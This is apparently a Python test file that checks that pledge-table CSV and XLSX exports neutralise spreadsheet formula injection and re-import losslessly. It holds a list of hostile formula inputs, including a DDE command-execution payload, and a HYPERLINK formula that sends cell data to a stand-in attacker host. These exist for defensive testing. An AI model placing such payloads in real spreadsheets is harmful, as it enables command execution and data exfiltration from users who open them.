"""Pledge tables are safe to open and lossless to re-import (issue 21, item 3): a note a spreadsheet would evaluate is
neutralised in CSV and a typed string in XLSX (never a formula), dates are real dates, and the importers give back
exactly the text that was exported."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from reassure.scenario_io.save import pledge_table
from reassure.scenario_io.tables import COLUMNS, read_rows, row_to_pledge
from reassure.settings import Settings
from tests.conftest import Cli
from tests.scenario_io.samples import PLEDGE_TABLE, VALID, write

HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(1,2)", "'=1+1", "'", "＝1+1", "=cmd|' /C calc'!A0"]
NOTE = '=HYPERLINK("http://attacker.example/?"&A3,"click")'
CAVEAT = "+1+1"


def _hostile_scenario() -> str:
    notes = NOTE.replace("'", "''")  # YAML's single-quoted form
    return VALID.replace("    probability: 0.9\n", f"    probability: 0.9\n    notes: '{notes}'\n").replace(
        "text: No flights east of the Dnipro", f"text: '{CAVEAT}'")


def _pledge(notes: str) -> dict[str, Any]:
    return {"key": "K-1", "nation": "FRA", "capability": "fighter_squadron", "domain": "air", "quantity": 2,
            "personnel_per_unit": 300, "where": ["air"], "window": {"from": date(2027, 1, 1), "to": date(2027, 12, 31)},
            "rotation": {"max_tour": 4, "min_dwell": 8}, "notes": notes, "caveats": [], "conditions": [],
            "sources": [], "status": "announced", "probability": 0.5, "standing": "assumption", "grade": None,
            "marking": "PUBLIC"}


def _xlsx_rows(data: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_pledge_tables_hold_no_formula_and_reimport_unchanged(cli: Cli, settings: Settings, tmp_path: Path,
                                                                       suffix: str) -> None:
    assert cli("import", str(write(tmp_path, _hostile_scenario())))[0] == 0
    table = tmp_path / f"pledges{suffix}"
    assert cli("export", "--scenario", "small", str(table), nation="GBR")[0] == 0
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8"), newline="")))
        assert rows[0]["notes"] == "'" + NOTE and rows[1]["caveats"] == "'" + CAVEAT
    else:
        cells = [c for row in _xlsx_rows(table.read_bytes()) for c in row]
        assert [c.data_type for c in cells if c.data_type == "f"] == []
        notes = next(c for c in cells if c.value == NOTE)
        assert notes.data_type == "s" and notes.quotePrefix
    code, out, err = cli("import", str(table), "--scenario", "small", nation="GBR")
    assert code == 0 and "changed 0 record(s)" in out, err


def test_xlsx_dates_are_dates_and_counts_are_numbers() -> None:
    rows = _xlsx_rows(pledge_table({"pledges": [_pledge("n")]}, "xlsx"))
    cells = dict(zip([c.value for c in rows[0]], rows[1], strict=True))
    assert cells["available_from"].is_date and cells["available_from"].number_format == "yyyy-mm-dd"
    assert cells["personnel_per_unit"].data_type == "n" and cells["probability"].value == 0.5


def test_a_csv_with_a_byte_order_mark_imports(cli: Cli, tmp_path: Path) -> None:
    cli("import", str(write(tmp_path, VALID)))
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + PLEDGE_TABLE.encode())
    code, _, err = cli("import", str(path), "--scenario", "small")
    assert code == 0, err


def test_export_offers_a_byte_order_mark(cli: Cli, tmp_path: Path) -> None:
    cli("import", str(write(tmp_path, VALID)))
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
    assert cli("export", "--scenario", "small", str(plain))[0] == 0
    code, _, err = cli("export", "--scenario", "small", "--bom", str(marked))
    assert code == 0, err
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    code, out, err = cli("import", str(marked), "--scenario", "small")
    assert code == 0 and "changed 0 record(s)" in out, err


# A note as stored (no NUL, no lone surrogate, no surrounding blanks: the file format strips them).
NOTES = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1,
                max_size=60).map(str.strip).filter(bool)


@given(st.one_of(NOTES, st.sampled_from([h for h in HOSTILE if h.strip() == h])), st.sampled_from(["csv", "xlsx"]))
@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_pledge_table_round_trip_keeps_every_note(tmp_path: Path, notes: str, fmt: str) -> None:
    path = tmp_path / f"t.{fmt}"
    path.write_bytes(pledge_table({"pledges": [_pledge(notes)]}, fmt))
    rows = read_rows(path)
    assert set(rows[0]) <= set(COLUMNS)
    assert row_to_pledge(rows[0])["notes"] == notes
